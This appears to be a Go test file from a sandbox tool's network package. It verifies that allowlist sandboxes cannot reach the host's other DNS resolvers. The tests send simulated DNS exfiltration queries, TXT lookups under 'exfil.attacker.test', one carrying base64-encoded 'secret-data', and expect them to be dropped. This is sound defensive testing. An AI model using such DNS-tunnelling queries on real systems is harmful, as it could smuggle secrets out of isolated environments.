//go:build linux

package network

import (
	"errors"
	"net"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/claude-sandbox/claude-sandbox/internal/testutil"
)

// TestDNSOnlyToNetnsDNS: the gateway's port 53 is open to a sandbox only
// for netns-dns's own socket. With netns-dns stopped and another DNS server
// on 0.0.0.0:53 of the host (dnsmasq's, unbound's or bind's default), no
// query from an allowlist sandbox reaches that server, over UDP or TCP, and
// netns-setup status says the resolver does not answer and exits 1.
func TestDNSOnlyToNetnsDNS(t *testing.T) {
	w := newPolicyWorld(t, "policy allowlist\ndomain allowed.test\n", 0)
	a := testutil.UniqueName("pd", 9)
	w.up(a)
	if got := w.mustResolve(a, "allowed.test"); strings.Join(got, " ") != allowedIP {
		t.Fatalf("allowed.test = %v, want %s", got, allowedIP)
	}
	if r := w.setup("status", a); r.Code != 0 || !strings.Contains(r.Stdout, "  dns       "+gateway+":53: answers\n") {
		t.Fatalf("status while netns-dns runs: %s\nwant exit 0 and dns %s:53: answers", r, gateway)
	}

	if err := syscall.Kill(w.dnsPid, syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	rogue := &authServer{}
	serveAnyAddr(t, w.host, rogue)

	for _, network := range []string{"udp", "tcp"} {
		q := new(dns.Msg)
		q.SetQuestion("netnsdns-down-"+network+".exfil.attacker.test.", dns.TypeTXT)
		err := inNetns(a, func() error {
			_, _, err := (&dns.Client{Net: network, Timeout: 2 * time.Second}).Exchange(q, gateway+":53")
			return err
		})
		var ne net.Error
		if !errors.As(err, &ne) || !ne.Timeout() {
			t.Errorf("%s query from the sandbox with netns-dns stopped: %v, want a timeout (dropped)", network, err)
		}
	}
	if got := rogue.names(); got != "" {
		t.Fatalf("the host's other DNS server on 0.0.0.0:53 was asked %q by the sandbox", got)
	}

	r := w.setup("status", a)
	if r.Code != 1 || !strings.Contains(r.Stdout, "  dns       "+gateway+":53: netns-dns does not answer for "+a) {
		t.Fatalf("status with netns-dns stopped: %s\nwant exit 1 and dns %s:53: netns-dns does not answer for %s", r, gateway, a)
	}
}

// serveAnyAddr serves h on UDP and TCP 0.0.0.0:53 in namespace ns, once
// whatever held the port (a netns-dns being stopped) has let it go.
func serveAnyAddr(t *testing.T, ns string, h dns.Handler) {
	t.Helper()
	var pc net.PacketConn
	var ln net.Listener
	deadline := time.Now().Add(10 * time.Second)
	for {
		err := inNetns(ns, func() (err error) {
			if pc, err = net.ListenPacket("udp4", "0.0.0.0:53"); err != nil {
				return err
			}
			if ln, err = net.Listen("tcp4", "0.0.0.0:53"); err != nil {
				pc.Close()
			}
			return err
		})
		if err == nil {
			break
		}
		if !errors.Is(err, syscall.EADDRINUSE) || time.Now().After(deadline) {
			t.Fatalf("listen 0.0.0.0:53 in %s: %v", ns, err)
		}
		time.Sleep(50 * time.Millisecond)
	}
	for _, s := range []*dns.Server{{PacketConn: pc, Handler: h}, {Listener: ln, Handler: h}} {
		go s.ActivateAndServe()
		t.Cleanup(func() { s.Shutdown() })
	}
}

// TestPolicyOpensNoOtherResolver: with a policy, the resolver netns-dns
// forwards to is not open to the sandboxes, even where it is an address of
// the host itself (a dnsmasq or unbound on its LAN address, named by a
// resolver line): a TXT query straight to it from an allowlist sandbox,
// over UDP or TCP, never arrives, while netns-dns still forwards to it.
func TestPolicyOpensNoOtherResolver(t *testing.T) {
	w := newPolicyWorld(t, "policy allowlist\nresolver "+lanHost+"\ndomain allowed.test\n", 0)
	hostResolver := &authServer{}
	serveAuth(t, w.host, lanHost, hostResolver)
	a := testutil.UniqueName("pr", 9)
	w.up(a)
	if got := w.mustResolve(a, "allowed.test"); strings.Join(got, " ") != allowedIP {
		t.Fatalf("allowed.test through netns-dns = %v, want %s", got, allowedIP)
	}
	if got := hostResolver.names(); got != "allowed.test." {
		t.Fatalf("the host's resolver was asked %q, want netns-dns's allowed.test.", got)
	}
	for _, network := range []string{"udp", "tcp"} {
		q := new(dns.Msg)
		q.SetQuestion("c2VjcmV0LWRhdGE-"+network+".exfil.attacker.test.", dns.TypeTXT)
		err := inNetns(a, func() error {
			_, _, err := (&dns.Client{Net: network, Timeout: 2 * time.Second}).Exchange(q, lanHost+":53")
			return err
		})
		// The table inside the namespace drops it: sendmsg fails with
		// EPERM at once (UDP); a SYN goes unanswered (TCP).
		var ne net.Error
		if network == "udp" && !errors.Is(err, syscall.EPERM) || network == "tcp" && (!errors.As(err, &ne) || !ne.Timeout()) {
			t.Errorf("%s query from the sandbox straight to the host's resolver %s: %v, want EPERM (udp) or a timeout (tcp): dropped", network, lanHost, err)
		}
	}
	if got := hostResolver.names(); got != "allowed.test." {
		t.Fatalf("the host's resolver on %s was asked %q by the sandbox", lanHost, got)
	}
}
